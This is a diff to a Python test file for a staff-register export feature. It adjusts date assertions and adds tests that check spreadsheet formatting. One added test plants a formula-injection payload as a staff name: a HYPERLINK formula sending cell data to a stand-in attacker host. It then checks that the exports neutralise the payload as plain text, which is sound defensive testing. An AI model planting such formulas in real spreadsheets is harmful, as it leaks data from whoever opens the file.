@@ -290,12 +290,12 @@ def test_exchange_export_json_and_xlsx(dataset, client_for, tmp_path):
     p03 = next(r for r in rows if r[1] == "CSTDCS")
     assert p03[4:12] == (
         "05/QĐ-VP",
-        "2026-01-15",
+        dt.datetime(2026, 1, 15),  # a date cell (dd/mm/yyyy), not text
         ISSUER,
         "cá nhân",
         "P03",
         "Võ Thanh Tùng",
-        "1985-12-31",
+        dt.datetime(1985, 12, 31),
         "*********234",
     )
     out = io.StringIO()
@@ -322,3 +322,50 @@ def test_exchange_export_json_and_xlsx(dataset, client_for, tmp_path):
             "-",
             stderr=io.StringIO(),
         )
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
+
+
+def _hostile_cells(content: bytes) -> list:
+    """Every cell holding the hostile name, in every sheet of the workbook."""
+    workbook = openpyxl.load_workbook(io.BytesIO(content))
+    return [
+        cell
+        for sheet in workbook.worksheets
+        for row in sheet.iter_rows()
+        for cell in row
+        if cell.value == HOSTILE_NAME
+    ]
+
+
+def test_a_formula_in_a_staff_name_is_plain_text_in_every_export(dataset, client_for):
+    """Issue 18, item 9: the register and the exchange file write the name as a string cell."""
+    import zipfile
+
+    Person.objects.filter(staff_code="P03").update(full_name=HOSTILE_NAME)
+    client = client_for("secretariat")
+    exports = {
+        "register": client.get(reverse("reports:register_xlsx")).content,
+        "exchange": client.get(
+            reverse("reports:exchange", kwargs={"year": 2025, "fmt": "xlsx"})
+        ).content,
+    }
+    for name, content in exports.items():
+        cells = _hostile_cells(content)
+        assert cells, name
+        assert all(c.data_type == "s" and c.quotePrefix for c in cells), name
+        archive = zipfile.ZipFile(io.BytesIO(content))
+        for member in archive.namelist():
+            if member.startswith("xl/worksheets/"):
+                assert "<f>" not in archive.read(member).decode(), (name, member)
+
+
+def test_register_xlsx_dates_are_dates_and_header_is_set_up(dataset, client_for):
+    content = client_for("head").get(reverse("reports:register_xlsx")).content
+    sheet = openpyxl.load_workbook(io.BytesIO(content)).worksheets[0]
+    assert sheet["G2"].is_date and sheet["G2"].number_format == "dd/mm/yyyy"
+    assert sheet["A2"].number_format == "0"  # the year, without a thousands separator
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:H")
+    assert sheet.print_title_rows == "$1:$1" and sheet.page_setup.orientation == "landscape"
+    assert sheet.column_dimensions["B"].number_format == "@"  # "Mã": codes stay text
